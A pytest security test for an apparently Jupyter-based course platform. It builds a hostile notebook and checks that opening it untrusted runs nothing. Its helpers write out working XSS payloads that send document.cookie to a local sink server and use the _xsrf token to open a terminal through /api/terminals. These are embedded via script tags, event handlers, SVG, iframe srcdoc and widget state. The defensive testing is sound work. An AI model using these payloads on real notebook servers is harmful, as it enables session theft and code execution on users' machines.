"""Somebody else's notebook, which nobody has run yet: opening it runs nothing of it and asks nothing of anybody."""

import http.server
import json
import threading

import anywidget
import ipywidgets as W
import nbformat
import pytest
from ipywidgets.embed import dependency_state
from lab import FRONTS

from dlcourse.tools import notebooks
from dlcourse.tools.saving import WIDGET

STATE = "application/vnd.jupyter.widget-state+json"


@pytest.fixture
def sink():
    """A server that somebody else listens on: (its address, the paths that were asked for)."""
    asked = []

    class Sink(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Sink)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def attack(sink, name):
    """JavaScript that leaves a mark, tells the cookie, and opens a terminal in the learner's name."""
    return (
        f"(window.hostile ??= []).push('{name}'); fetch('{sink}/{name}?' + document.cookie); "
        f"fetch('/api/terminals?{name}', {{method: 'POST', headers: {{'X-XSRFToken': "
        "(document.cookie.match(/_xsrf=([^;]*)/) || [])[1]}});"
    )


def esm(sink, name):
    script = attack(sink, name)
    return f"{script} export default {{ initialize() {{ {script} }}, render() {{ {script} }} }};"


def markup(sink, name):
    """HTML that would run the attack, in as many ways as there are, and that asks for pictures."""
    script = attack(sink, name).replace('"', "&quot;")
    return (
        f'<script>{attack(sink, name)}</script><img src=\'x\' onerror="{script}"><svg onload="{script}"></svg>'
        f'<iframe srcdoc="<script>{script}</script>"></iframe><details open ontoggle="{script}">x</details>'
        f'<style onload="{script}">p {{background: url({sink}/{name}-style)}}</style>'
        f"<img src='{sink}/{name}-picture'><video src='{sink}/{name}-film' autoplay></video>"
        f"<p style='background-image: url({sink}/{name}-background)'>x</p><link rel=stylesheet href='{sink}/{name}-link'>"
    )


def hostile(sink):
    new = nbformat.v4
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>{attack(sink, 'svg')}</script></svg>"
    widgets = [anywidget.AnyWidget(_esm=esm(sink, "saved-state")), W.HTML(markup(sink, "saved-html"))]
    bundles = [
        {"text/html": markup(sink, "html")},
        {"text/markdown": markup(sink, "markdown-output") + f"\n\n![x]({sink}/markdown-output-image)"},
        {"application/javascript": attack(sink, "javascript")},
        {"image/svg+xml": svg},
        {"text/latex": f"$x$ {markup(sink, 'latex')}"},
        *({WIDGET: {"version_major": 2, "version_minor": 0, "model_id": each.model_id}} for each in widgets),
    ]
    state = dependency_state(widgets, drop_defaults=False)  # as "Save Widget State" has it
    saved = {"version_major": 2, "version_minor": 0, "state": state}
    cells = [
        new.new_markdown_cell(f"# A gift\n\n{markup(sink, 'markdown')}\n\n![x]({sink}/markdown-image)"),
        new.new_code_cell(
            "1 + 1",
            execution_count=1,
            outputs=[new.new_output("display_data", data=data) for data in bundles],
        ),
        new.new_code_cell(f"import anywidget\nanywidget.AnyWidget(_esm={esm(sink, 'run')!r})"),
    ]
    return new.new_notebook(cells=cells, metadata={**notebooks.METADATA, "widgets": {STATE: saved}})


@pytest.mark.parametrize("front", FRONTS)
def test_an_untrusted_notebook_runs_nothing_when_it_is_opened(lab, sink, front):
    address, asked = sink
    path = lab.folder / f"gift-{front}.ipynb"
    nbformat.write(hostile(address), path)
    assert "widgets" in json.loads(path.read_text(encoding="utf-8"))["metadata"]
    terminals = []
    lab.context.on(
        "request", lambda request: "/api/terminals?" in request.url and terminals.append(request.url)
    )
    book = lab.open(path.name, front)
    try:
        for index in range(len(book.cells())):
            book.go(index)
        book.page.wait_for_timeout(2000)
        assert book.page.evaluate("() => window.hostile || []") == []
        assert asked == [] and terminals == []
        book.save()
        assert "widgets" not in json.loads(path.read_text(encoding="utf-8"))["metadata"]
        # The same code runs once the learner runs it: the trap works.
        book.run_cell(2)
        book.page.wait_for_function("() => window.hostile?.includes('run')")
        assert any(path.startswith("/run") for path in asked) and terminals
    finally:
        book.page.close()
